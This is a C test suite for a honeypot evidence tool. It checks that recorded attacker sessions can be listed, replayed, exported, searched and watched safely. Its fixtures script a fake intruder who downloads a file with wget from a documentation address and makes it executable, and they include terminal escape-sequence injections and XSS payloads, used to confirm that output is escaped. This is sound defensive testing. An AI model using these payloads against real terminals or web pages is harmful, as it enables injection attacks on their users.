/* SPDX-License-Identifier: ISC */
#include "support.h"

#include "cli/cast.h"
#include "cli/flat.h"
#include "cli/proc_table.h"
#include "cli/session_table.h"
#include "skt_fixture.h"

#include <fcntl.h>
#include <jansson.h>
#include <pty.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define ID1 0xa1b2c3d4e5f6ull
#define ID2 0x0123456789abull

/* One session of a root who logs in at the second try, and does things. */
static void one_session(struct skt_writer *w)
{
	skt_begin(w, ID1, "198.51.100.10", 45400, "");
	w->pid = 100;
	skt_try(w, INTRO_FAILED, "root", "tiger");
	skt_try(w, INTRO_SUCCEEDED, "root", "toor");
	skt_fork(w, 101);
	w->pid = 101;
	w->ppid = 100;
	w->tty = PTS0;
	skt_size(w, 30, 100);
	skt_run(w, 0, "/bin/bash", "-bash\0", 6, 1);
	skt_out(w, "web1:~# ");
	skt_in(w, "wget http://203.0.113.7/x\r");
	skt_out(w, "wget http://203.0.113.7/x\r\nSaving \033[31mfooled\033[0m you\r\n");
	skt_typed(w, "wget http://203.0.113.7/x");
	skt_fork(w, 102);
	w->pid = 102;
	w->ppid = 101;
	skt_run(w, 0, "/usr/bin/wget", "wget\0http://203.0.113.7/x\0", 26, 2);
	skt_sock(w, HOOK_CONNECT, "203.0.113.7", 80);
	skt_touch(w, INTRO_CREATE, "/root/x", "");
	skt_exit(w, 0x100);
	w->pid = 101;
	w->ppid = 100;
	skt_touch(w, INTRO_CHMOD, "/root/x", "");
	skt_out(w, "\xe2\x82");
	skt_out(w, "\xac \xff end\r\n");
}

static void standard(void)
{
	struct skt_writer w;
	skt_open(&w, "shop", "web1", 0);
	one_session(&w);
	skt_finish(&w);
	skt_close(&w);
}

/* ---- the reader ------------------------------------------------------------- */

struct got {
	uint64_t seqs[64];
	unsigned n, stop;
};

static bool on_record(void *arg, struct skt_reader *in, const struct skt_rec *r)
{
	struct got *g = arg;
	(void)in;
	assert_true(g->n < 64);
	g->seqs[g->n++] = r->h.seq;
	return g->n != g->stop;
}

static void open_dir(struct evidence_dir *d, const char *net)
{
	snprintf(d->path, sizeof(d->path), "%s/nets/%s/evidence", state, net);
	d->fd = open(d->path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	assert_true(d->fd >= 0);
}

static void rotation(void **arg)
{
	(void)arg;
	struct skt_writer w;
	struct evidence_dir d;
	struct skt_reader r;
	struct got g = { 0 };
	struct err e = { 0 };
	char a[400], b[400];
	skt_open(&w, "shop", "web1", 1);
	skt_typed(&w, "1");
	uint64_t seq = w.seq;
	skt_close(&w);
	skt_open(&w, "shop", "web1", 0);
	w.seq = seq;
	skt_typed(&w, "2");
	open_dir(&d, "shop");
	skt_reader_init(&r, &d, "web1", on_record, &g);
	assert_int_equal(skt_read(&r, &e), 0);
	assert_int_equal(g.n, 2);
	/* It is closed, and one more is written before; then two new ones come. */
	skt_typed(&w, "3");
	seq = w.seq;
	skt_close(&w);
	skt_path(a, sizeof(a), "shop", "sessions/web1.skt");
	skt_path(b, sizeof(b), "shop", "sessions/web1.000002.skt");
	assert_int_equal(rename(a, b), 0);
	skt_open(&w, "shop", "web1", 3);
	w.seq = seq;
	skt_typed(&w, "4");
	seq = w.seq;
	skt_close(&w);
	skt_open(&w, "shop", "web1", 0);
	w.seq = seq;
	assert_int_equal(skt_read(&r, &e), 0);
	assert_int_equal(g.n, 4);
	skt_typed(&w, "5");
	w.seq += 3;
	skt_typed(&w, "9");
	assert_int_equal(skt_read(&r, &e), 0);
	assert_int_equal(g.n, 6);
	for (unsigned i = 0; i < 5; i++)
		assert_int_equal(g.seqs[i], i + 1);
	assert_int_equal(r.missing, 3);
	assert_int_equal(r.cut + r.damaged + r.nonsense, 0);
	skt_reader_free(&r);
	/* Another honeypot, whose name begins alike, is not read. */
	struct got none = { 0 };
	skt_reader_init(&r, &d, "web", on_record, &none);
	assert_int_equal(skt_read(&r, &e), 0);
	assert_int_equal(none.n, 0);
	skt_reader_free(&r);
	skt_close(&w);
	close(d.fd);
}

static void stopping(void **arg)
{
	(void)arg;
	struct skt_writer w;
	struct evidence_dir d;
	struct skt_reader r;
	struct got g = { .stop = 2 };
	struct err e = { 0 };
	skt_open(&w, "shop", "web1", 0);
	for (int i = 0; i < 5; i++)
		skt_typed(&w, "x");
	skt_close(&w);
	open_dir(&d, "shop");
	skt_reader_init(&r, &d, "web1", on_record, &g);
	assert_int_equal(skt_read(&r, &e), 1);
	assert_int_equal(g.n, 2);
	assert_int_equal(skt_read(&r, &e), 0);
	assert_int_equal(g.n, 5);
	skt_reader_free(&r);
	close(d.fd);
}

/* Every cut, and every byte set to 0xff: no crash, and no record that was not there. */
static void nonsense(void **arg)
{
	(void)arg;
	char path[400];
	uint8_t buf[8192];
	standard();
	skt_path(path, sizeof(path), "shop", "sessions/web1.skt");
	int fd = open(path, O_RDWR | O_CLOEXEC);
	ssize_t n = read(fd, buf, sizeof(buf));
	assert_true(n > 1000 && n < (ssize_t)sizeof(buf));
	struct evidence_dir d;
	open_dir(&d, "shop");
	struct got whole = { 0 };
	struct skt_reader r;
	skt_reader_init(&r, &d, "web1", on_record, &whole);
	assert_int_equal(skt_read(&r, NULL), 0);
	skt_reader_free(&r);
	for (ssize_t cut = 0; cut < n; cut += 3) {
		struct got g = { 0 };
		assert_int_equal(ftruncate(fd, 0), 0);
		assert_int_equal(pwrite(fd, buf, (size_t)cut, 0), cut);
		skt_reader_init(&r, &d, "web1", on_record, &g);
		assert_int_equal(skt_read(&r, NULL), 0);
		assert_true(g.n <= whole.n);
		assert_memory_equal(g.seqs, whole.seqs, g.n * sizeof(g.seqs[0]));
		assert_int_equal(r.damaged, 0);
		/* The rest comes. */
		assert_int_equal(pwrite(fd, buf + cut, (size_t)(n - cut), cut), n - cut);
		assert_int_equal(skt_read(&r, NULL), 0);
		assert_int_equal(g.n, whole.n);
		skt_reader_free(&r);
	}
	for (ssize_t i = 0; i < n; i += 7) {
		uint8_t was = buf[i];
		buf[i] = 0xff;
		assert_int_equal(pwrite(fd, buf, (size_t)n, 0), n);
		buf[i] = was;
		struct got g = { 0 };
		skt_reader_init(&r, &d, "web1", on_record, &g);
		assert_int_equal(skt_read(&r, NULL), 0);
		assert_true(g.n <= whole.n);
		skt_reader_free(&r);
	}
	assert_int_equal(pwrite(fd, "\xff\xff\xff\xff", 4, 152), 4);
	const struct ran *x = run(NULL, "sessions", NULL);
	assert_int_equal(x->status, 0);
	assert_non_null(strstr(x->err, "damaged"));
	close(fd);
	close(d.fd);
}

/* ---- commands --------------------------------------------------------------- */

static void no_control(const char *s)
{
	for (; *s; s++)
		assert_true((uint8_t)*s >= 0x20 ? *s != 0x7f : *s == '\n' || *s == '\t' || *s == '\r');
}

static void list(void **arg)
{
	(void)arg;
	struct skt_writer w;
	const struct ran *r = run(NULL, "sessions", NULL);
	assert_int_equal(r->status, 1);
	standard();
	skt_flow("shop", "198.51.100.10", 45400, 4711);
	skt_open(&w, "shop", "db1", 0);
	skt_begin(&w, ID2, "203.0.113.9", 1234, "ann\033[31m");
	skt_try(&w, INTRO_FAILED, "bob", "x\033]0;evil\007y");
	skt_close(&w);
	r = run(NULL, "sessions", NULL);
	assert_int_equal(r->status, 0);
	assert_string_equal(r->err, "");
	no_control(r->out);
	assert_non_null(strstr(r->out, "a1b2c3d4e5f6  web1"));
	assert_non_null(strstr(r->out, "198.51.100.10:45400"));
	assert_non_null(strstr(r->out, "toor (+1)"));
	assert_non_null(strstr(r->out, "4711"));
	assert_non_null(strstr(r->out, "ann\\x1b[31m"));
	assert_non_null(strstr(r->out, "x\\x1b]0;evil\\x07y"));
	assert_null(strstr(run(NULL, "sessions", "web1", NULL)->out, "0123456789ab"));
	assert_null(strstr(run(NULL, "sessions", "--honeypot", "db1", NULL)->out, "a1b2c3d4e5f6"));
	assert_null(strstr(run(NULL, "sessions", "--user", "bob", NULL)->out, "a1b2c3d4e5f6"));
	assert_non_null(strstr(run(NULL, "sessions", "--user", "bob", NULL)->out, "0123456789ab"));
	assert_null(strstr(run(NULL, "sessions", "--from", "198.51.100.0/24", NULL)->out, "0123456789ab"));
	assert_non_null(strstr(run(NULL, "sessions", "--from", "198.51.100.0/24", NULL)->out, "a1b2c3d4e5f6"));
	assert_null(strstr(run(NULL, "sessions", "--until", "2026-11-23T10:07:21Z", NULL)->out, "a1b2"));
	assert_int_equal(run(NULL, "sessions", "--since", "soon", NULL)->status, 2);
	assert_int_equal(run(NULL, "sessions", "--from", "there", NULL)->status, 2);
	assert_int_equal(run(NULL, "sessions", "nobody", NULL)->status, 1);
	r = run(NULL, "sessions", "shop/web1", "--json", NULL);
	json_t *v = json_loads(r->out, 0, NULL);
	assert_int_equal(json_array_size(v), 1);
	json_t *s = json_array_get(v, 0);
	assert_string_equal(json_string_value(json_object_get(s, "id")), "a1b2c3d4e5f6");
	assert_string_equal(json_string_value(json_object_get(s, "user")), "root");
	assert_int_equal(json_integer_value(json_object_get(s, "flow_id")), 4711);
	assert_string_equal(json_string_value(json_object_get(s, "community_id")), "1:abc=");
	assert_int_equal(json_array_size(json_object_get(s, "logins")), 2);
	assert_int_equal(json_integer_value(json_object_get(s, "in_bytes")), 26);
	json_decref(v);
}

static void show(void **arg)
{
	(void)arg;
	standard();
	const struct ran *r = run(NULL, "session", "a1b2", NULL);
	assert_int_equal(r->status, 0);
	no_control(r->out);
	static const char *const want[] = { "198.51.100.10:45400",
					    "tiger",
					    "toor",
					    "pts/0, 100x30",
					    "wget http://203.0.113.7/x",
					    "/usr/bin/wget: wget http://203.0.113.7/x",
					    "tcp 192.0.2.10:40000 -> 203.0.113.7:80",
					    "create /root/x",
					    "chmod 0755 /root/x",
					    "[exit 1]",
					    "nothing" };
	for (size_t i = 0; i < sizeof(want) / sizeof(want[0]); i++)
		if (!strstr(r->out, want[i]))
			fail_msg("no \"%s\" in:\n%s", want[i], r->out);
	r = run(NULL, "session", "a1b2c3d4e5f6", "--json", NULL);
	json_t *v = json_loads(r->out, 0, NULL);
	assert_non_null(v);
	assert_int_equal(json_array_size(json_object_get(v, "executed")), 2);
	json_t *argv = json_object_get(json_array_get(json_object_get(v, "executed"), 1), "argv");
	assert_int_equal(json_array_size(argv), 2);
	assert_int_equal(json_array_size(json_object_get(v, "processes")), 3);
	json_decref(v);
	assert_int_equal(run(NULL, "session", "ffff", NULL)->status, 1);
	assert_int_equal(run(NULL, "session", "xyz", NULL)->status, 2);
	assert_int_equal(run(NULL, "session", "a1", NULL)->status, 2);
}

/* An exec whose arguments take three records. */
static void long_exec(void **arg)
{
	(void)arg;
	struct skt_writer w;
	char args[9000], rest[30000];
	memset(args, 'a', sizeof(args));
	memcpy(args, "echo", 5);
	memset(rest, 'b', sizeof(rest));
	rest[sizeof(rest) - 1] = 0;
	skt_open(&w, "shop", "web1", 0);
	skt_begin(&w, ID1, "198.51.100.10", 1, "root");
	w.pid = 7;
	w.flags = INTRO_F_MORE;
	skt_run(&w, 0, "/bin/echo", args, sizeof(args), 2);
	w.flags = INTRO_F_MORE | INTRO_F_CONT;
	skt_put(&w, INTRO_EXEC, rest, 15000);
	w.flags = INTRO_F_CONT;
	skt_put(&w, INTRO_EXEC, rest + 15000, 15000);
	skt_close(&w);
	const struct ran *r = run(NULL, "session", "a1b2", "--json", NULL);
	json_t *v = json_loads(r->out, 0, NULL);
	assert_non_null(v);
	json_t *x = json_object_get(v, "executed");
	assert_int_equal(json_array_size(x), 1);
	json_t *argv = json_object_get(json_array_get(x, 0), "argv");
	assert_int_equal(json_array_size(argv), 2);
	assert_int_equal(json_string_length(json_array_get(argv, 1)), 9000 - 5 + 30000 - 1);
	json_decref(v);
}

static void tree(void **arg)
{
	(void)arg;
	struct skt_writer w;
	skt_open(&w, "shop", "web1", 0);
	w.pid = 1;
	skt_fork(&w, 50); /* of no session */
	w.pid = 50;
	w.ppid = 1;
	skt_run(&w, 0, "/usr/sbin/cron", "cron\0", 5, 1);
	one_session(&w);
	skt_close(&w);
	const struct ran *r = run(NULL, "tree", "web1", NULL);
	assert_int_equal(r->status, 0);
	assert_non_null(strstr(r->out, "100 (bash)"));
	assert_non_null(strstr(r->out, "    101 -bash"));
	assert_non_null(strstr(r->out, "      102 wget http://203.0.113.7/x  [exit 1]"));
	assert_non_null(strstr(r->out, "> $ wget http"));
	assert_non_null(strstr(r->out, "- tcp 192.0.2.10:40000 -> 203.0.113.7:80"));
	assert_null(strstr(r->out, "cron"));
	assert_non_null(strstr(run(NULL, "tree", "--all", NULL)->out, "cron"));
	assert_non_null(strstr(run(NULL, "tree", "--session", "a1b2", NULL)->out, "wget"));
	r = run(NULL, "tree", "--json", NULL);
	json_t *v = json_loads(r->out, 0, NULL);
	assert_int_equal(json_array_size(v), 1);
	json_decref(v);
}

/* A chain of forks as deep as somebody likes, and a parent of itself. */
static void deep_tree(void **arg)
{
	(void)arg;
	struct skt_writer w;
	skt_open(&w, "shop", "web1", 0);
	skt_begin(&w, ID1, "198.51.100.10", 1, "root");
	for (uint32_t pid = 10; pid < 5010; pid++) {
		w.pid = pid;
		w.ppid = pid - 1;
		skt_fork(&w, pid + 1);
	}
	w.pid = w.ppid = 9999;
	skt_fork(&w, 9999);
	skt_run(&w, 0, "/bin/sh", "sh\0", 3, 1);
	skt_close(&w);
	const struct ran *r = run(NULL, "tree", "--quiet", NULL);
	assert_int_equal(r->status, 0);
	assert_int_equal(run(NULL, "session", "a1b2", NULL)->status, 0);
}

/* ---- replay and exports ------------------------------------------------------- */

static const char evil[] = "a\033]52;c;ZXZpbA==\007b\033[6nc\033P$q\033\\d\x9b"
			   "31m<script>alert(1)</script>&\"'\r\n";

static void evil_session(void)
{
	struct skt_writer w;
	skt_open(&w, "shop", "web1", 0);
	skt_begin(&w, ID1, "198.51.100.10", 45400, "<b>root");
	skt_try(&w, INTRO_FAILED, "<img src=x onerror=alert(1)>", "\"'><script>");
	w.tty = PTS0;
	skt_out(&w, evil);
	skt_typed(&w, "<script>alert(2)</script>\033[2J");
	w.tty = PTS1;
	skt_out(&w, "inner terminal\r\n");
	skt_close(&w);
}

static void hostile(void **arg)
{
	(void)arg;
	evil_session();
	const struct ran *r = run(NULL, "replay", "a1b2", "--speed", "max", NULL);
	assert_int_equal(r->status, 0);
	no_control(r->out);
	assert_string_equal(r->out, "a\\x1b]52;c;ZXZpbA==\\x07b\\x1b[6nc\\x1bP$q\\x1b\\d\\x9b31m"
				    "<script>alert(1)</script>&\"'\r\n");
	r = run(NULL, "replay", "a1b2", "--speed=max", "--raw", NULL);
	assert_string_equal(r->out, evil);
	static const char *const formats[] = { "txt", "html", "cast" };
	for (int i = 0; i < 3; i++) {
		r = run(NULL, "replay", "a1b2", "--export", formats[i], NULL);
		assert_int_equal(r->status, 0);
		no_control(r->out);
	}
	assert_non_null(strstr(run(NULL, "replay", "a1b2", "--tty", "pts/1", "--speed=max", NULL)->out, "inner"));
	assert_int_equal(run(NULL, "replay", "a1b2", "--tty", "pts/7", NULL)->status, 1);
	assert_int_equal(run(NULL, "replay", "a1b2", "--speed", "fast", NULL)->status, 2);
	assert_int_equal(run(NULL, "replay", "a1b2", "--export", "doc", NULL)->status, 2);
	assert_int_equal(run(NULL, "replay", "a1b2", "--output", "x", NULL)->status, 2);
	no_control(run(NULL, "session", "a1b2", NULL)->out);
}

static void html(void **arg)
{
	(void)arg;
	evil_session();
	const struct ran *r = run(NULL, "replay", "a1b2", "--export=html", NULL);
	assert_int_equal(r->status, 0);
	assert_non_null(strstr(r->out, "&lt;script&gt;alert(1)&lt;/script&gt;&amp;&quot;&#39;"));
	assert_non_null(strstr(r->out, "&lt;img src=x onerror=alert(1)&gt;"));
	/* Only tags of our own, none of which can do anything. */
	static const char *const tags[] = { "!DOCTYPE", "html",  "/html",  "head",   "/head", "meta", "title",
					    "/title",   "style", "/style", "body",   "/body", "h1",   "/h1",
					    "h2",       "/h2",   "table",  "/table", "tr",    "/tr",  "th",
					    "/th",      "td",    "/td",    "pre",    "/pre",  "i",    "/i" };
	for (const char *p = r->out; (p = strchr(p, '<')); p++) {
		size_t n = strcspn(p + 1, " >"), i = 0;
		while (i < sizeof(tags) / sizeof(tags[0]) && (strlen(tags[i]) != n || strncmp(tags[i], p + 1, n) != 0))
			i++;
		if (i == sizeof(tags) / sizeof(tags[0]))
			fail_msg("a foreign tag: %.40s", p);
	}
}

static void cast(void **arg)
{
	(void)arg;
	standard();
	const struct ran *r = run(NULL, "replay", "a1b2", "--export", "cast", "--idle", "2s", NULL);
	assert_int_equal(r->status, 0);
	assert_string_equal(
	    r->out,
	    "{\"version\": 2, \"width\": 100, \"height\": 30, \"timestamp\": 1795428441, \"idle_time_limit\": 2, "
	    "\"title\": \"web1 a1b2c3d4e5f6 pts/0 from 198.51.100.10:45400 as root\"}\n"
	    "[0.006000, \"o\", \"web1:~# \"]\n"
	    "[0.007000, \"i\", \"wget http://203.0.113.7/x\\r\"]\n"
	    "[0.008000, \"o\", \"wget http://203.0.113.7/x\\r\\nSaving \\u001b[31mfooled\\u001b[0m you\\r\\n\"]\n"
	    "[0.017000, \"o\", \"\xe2\x82\xac \\ufffd end\\r\\n\"]\n");
}

static void ttyrec(void **arg)
{
	(void)arg;
	char path[200];
	uint8_t b[400];
	evil_session();
	snprintf(path, sizeof(path), "%s/x.ttyrec", state);
	assert_int_equal(run(NULL, "replay", "a1b2", "--export", "ttyrec", "-o", path, NULL)->status, 0);
	FILE *f = fopen(path, "rbe");
	size_t n = fread(b, 1, sizeof(b), f);
	fclose(f);
	assert_int_equal(n, 12 + strlen(evil));
	assert_memory_equal(b + 12, evil, strlen(evil));
	uint32_t head[3];
	memcpy(head, b, 12);
	assert_int_equal(head[0], T0 / 1000000000);
	assert_int_equal(head[1], 3000);
	assert_int_equal(head[2], strlen(evil));
}

static void text(void **arg)
{
	(void)arg;
	standard();
	const struct ran *r = run(NULL, "replay", "a1b2", "--export", "txt", NULL);
	assert_string_equal(r->out,
			    "web1:~# wget http://203.0.113.7/x\nSaving fooled you\n\xe2\x82\xac \xef\xbf\xbd end\n");
}

/* A record of many bytes is played whole, and its pauses are kept. */
static void whole(void **arg)
{
	(void)arg;
	struct skt_writer w;
	static char big[8001];
	memset(big, 'x', 8000);
	big[0] = '<';
	big[7999] = '>';
	skt_open(&w, "shop", "web1", 0);
	skt_begin(&w, ID1, "198.51.100.10", 1, "root");
	w.tty = PTS0;
	skt_out(&w, big);
	w.time += 300 * MS;
	skt_out(&w, "end");
	skt_close(&w);
	struct timespec a, b;
	clock_gettime(CLOCK_MONOTONIC, &a);
	const struct ran *r = run(NULL, "replay", "a1b2", NULL);
	clock_gettime(CLOCK_MONOTONIC, &b);
	assert_int_equal(strlen(r->out), 8003);
	assert_memory_equal(r->out, big, 8000);
	assert_true((b.tv_sec - a.tv_sec) * 1000 + (b.tv_nsec - a.tv_nsec) / 1000000 >= 290);
}

/* ---- watch -------------------------------------------------------------------- */

/* skep watch on a terminal of its own (tty) or into a pipe; returns what came out. */
static void watch_for(char *out, size_t cap, bool tty, const char *const *argv, void (*then)(void), const char *until)
{
	int master, slave, p[2];
	struct winsize ws = { 24, 80, 0, 0 };
	assert_int_equal(pipe(p), 0);
	assert_int_equal(openpty(&master, &slave, NULL, NULL, &ws), 0);
	struct termios raw;
	tcgetattr(slave, &raw);
	cfmakeraw(&raw);
	tcsetattr(slave, TCSANOW, &raw);
	pid_t pid = start(0, tty ? slave : p[1], tty ? slave : p[1], argv);
	close(p[1]);
	int fd = tty ? master : p[0];
	fcntl(fd, F_SETFL, O_NONBLOCK);
	size_t n = 0;
	bool done = false;
	for (int i = 0; i < 500 && !(done && strstr(out, until)); i++) {
		ssize_t k = read(fd, out + n, cap - n - 1);
		n += k > 0 ? (size_t)k : 0;
		out[n] = 0;
		if (i == 30 && then)
			then();
		done = i >= 30;
		usleep(10000);
	}
	kill(pid, SIGTERM);
	assert_int_equal(finish(pid), 0);
	ssize_t k = read(fd, out + n, cap - n - 1);
	out[n + (k > 0 ? (size_t)k : 0)] = 0;
	close(p[0]);
	close(master);
	close(slave);
}

static void more_evil(void)
{
	struct skt_writer w;
	skt_open(&w, "shop", "web1", 0);
	w.session = ID1;
	w.seq = 100;
	w.time = T0 + 5000 * MS;
	w.tty = PTS0;
	skt_out(&w, evil);
	skt_out(&w, "\033[1mbold\r\nlast words\r\n");
	skt_close(&w);
}

static void watch_lines(void **arg)
{
	(void)arg;
	static char out[65536];
	static const char *const argv[] = { "skep", "watch", "web1", NULL };
	evil_session();
	watch_for(out, sizeof(out), false, argv, more_evil, "last words");
	no_control(out);
	assert_non_null(strstr(out, "10:07:26.000Z web1 a1b2c3d4e5f6 pts/0 | abcd\xef\xbf\xbd"
				    "31m<script>"));
	assert_non_null(strstr(out, "pts/0 | bold\n"));
	assert_null(strstr(out, "52;c"));
}

static void watch_screen(void **arg)
{
	(void)arg;
	static char out[65536];
	static const char *const argv[] = { "skep", "watch", "web1", NULL };
	static const char *const raw[] = { "skep", "watch", "web1", "--raw", NULL };
	struct skt_writer w;
	skt_open(&w, "shop", "web1", 0);
	skt_begin(&w, ID1, "198.51.100.10", 45400, "root");
	w.tty = PTS0;
	skt_out(&w, "what was there");
	skt_close(&w);
	watch_for(out, sizeof(out), true, argv, more_evil, "last words");
	assert_non_null(strstr(out, "what was there"));
	assert_non_null(strstr(out, "a\\x1b]52;c;ZXZpbA==\007b\\x1b[6nc"));
	assert_non_null(strstr(out, "\033[1mbold"));
	assert_null(strstr(out, "\033]"));
	assert_null(strstr(out, "\033[6n"));
	assert_null(strstr(out, "\033P"));
	watch_for(out, sizeof(out), true, raw, NULL, "last words");
	assert_non_null(strstr(out, "\033]52;c"));
}

/* ---- search -------------------------------------------------------------------- */

static void search(void **arg)
{
	(void)arg;
	struct stat st;
	char path[300];
	standard();
	skt_flow("shop", "198.51.100.10", 45400, 4711);
	const struct ran *r = run(NULL, "search", "fooled", "you", NULL);
	assert_int_equal(r->status, 0);
	/* Colours in the middle of a line do not hide it. */
	assert_non_null(strstr(r->out, "output  Saving fooled you"));
	assert_non_null(strstr(r->out, "shop/web1"));
	assert_non_null(strstr(r->out, "a1b2c3d4e5f6"));
	snprintf(path, sizeof(path), "%s/nets/shop/index.sqlite", state);
	assert_int_equal(stat(path, &st), 0);
	assert_int_equal(st.st_mode & 0777, 0600);
	snprintf(path, sizeof(path), "%s/nets/shop/evidence/index.sqlite", state);
	assert_int_equal(stat(path, &st), -1);
	r = run(NULL, "search", "203.0.113.7", "--json", NULL);
	json_t *v = json_loads(r->out, 0, NULL);
	unsigned kinds = 0;
	for (size_t i = 0; i < json_array_size(v); i++) {
		const char *k = json_string_value(json_object_get(json_array_get(v, i), "kind"));
		static const char *const names[] = { "output", "input", "command", "exec", "socket" };
		for (unsigned b = 0; b < 5; b++)
			kinds |= strcmp(k, names[b]) ? 0 : 1u << b;
	}
	assert_int_equal(kinds, 31);
	json_decref(v);
	assert_non_null(strstr(run(NULL, "search", "/root/x", NULL)->out, "create /root/x"));
	assert_non_null(strstr(run(NULL, "search", "tiger", NULL)->out, "login"));
	assert_non_null(strstr(run(NULL, "search", "tig*", NULL)->out, "login"));
	assert_null(strstr(run(NULL, "search", "tig", NULL)->out, "login"));
	assert_non_null(strstr(run(NULL, "search", "quokka", NULL)->out, "event"));
	assert_null(strstr(run(NULL, "search", "quokka", "--kind", "exec", NULL)->out, "event"));
	assert_null(strstr(run(NULL, "search", "fooled", "--session", "0000", NULL)->out, "fooled"));
	assert_null(strstr(run(NULL, "search", "fooled", "OR", "tiger", NULL)->out, "fooled"));
	assert_int_equal(run(NULL, "search", "\"\" NEAR(", NULL)->status, 0);
	assert_int_equal(run(NULL, "search", "/", NULL)->status, 2);
	assert_int_equal(run(NULL, "search", "x", "--kind", "thing", NULL)->status, 2);
	assert_int_equal(run(NULL, "search", "x", "--net", "nope", NULL)->status, 1);
}

static unsigned hits(const char *word)
{
	const struct ran *r = run(NULL, "search", "--json", word, NULL);
	json_t *v = json_loads(r->out, 0, NULL);
	unsigned n = (unsigned)json_array_size(v);
	json_decref(v);
	return n;
}

/* What comes later is found, nothing twice, a line that was cut between two updates
 * is one, and what was removed is gone. */
static void incremental(void **arg)
{
	(void)arg;
	struct skt_writer w;
	char a[400], b[400];
	skt_open(&w, "shop", "web1", 0);
	skt_begin(&w, ID1, "198.51.100.10", 45400, "root");
	w.tty = PTS0;
	skt_out(&w, "zebra one\r\nyak ele");
	assert_int_equal(hits("zebra"), 1);
	skt_out(&w, "phant\r\nzebra two\r\n");
	assert_int_equal(hits("zebra"), 2);
	assert_int_equal(hits("elephant"), 1);
	assert_int_equal(hits("ele"), 0);
	skt_close(&w);
	skt_path(a, sizeof(a), "shop", "sessions/web1.skt");
	skt_path(b, sizeof(b), "shop", "sessions/web1.000001.skt");
	assert_int_equal(rename(a, b), 0);
	assert_int_equal(hits("zebra"), 2);
	skt_open(&w, "shop", "web1", 2);
	w.session = ID1;
	w.tty = PTS0;
	skt_out(&w, "zebra three\r\n");
	skt_close(&w);
	assert_int_equal(hits("zebra"), 3);
	assert_int_equal(run(NULL, "reindex", NULL)->status, 0);
	assert_int_equal(hits("zebra"), 3);
	unlink(b);
	assert_int_equal(hits("zebra"), 1);
	/* A file that got shorter. */
	skt_path(b, sizeof(b), "shop", "sessions/web1.000002.skt");
	assert_int_equal(truncate(b, 160), 0);
	assert_int_equal(hits("zebra"), 0);
	/* An index that is none. */
	snprintf(a, sizeof(a), "%s/nets/shop/index.sqlite", state);
	int fd = open(a, O_WRONLY | O_CLOEXEC);
	char junk[4096];
	memset(junk, 'j', sizeof(junk));
	assert_int_equal(pwrite(fd, junk, sizeof(junk), 16), sizeof(junk));
	close(fd);
	snprintf(b, sizeof(b), "%s/nets/shop/index.sqlite-wal", state);
	unlink(b);
	assert_int_equal(run(NULL, "search", "zebra", NULL)->status, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
#define T(f) cmocka_unit_test_setup_teardown(f, state_setup, state_teardown)
		T(rotation), T(stopping),  T(nonsense),    T(list),         T(show),   T(long_exec),
		T(tree),     T(deep_tree), T(hostile),     T(html),         T(cast),   T(ttyrec),
		T(text),     T(whole),     T(watch_lines), T(watch_screen), T(search), T(incremental),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
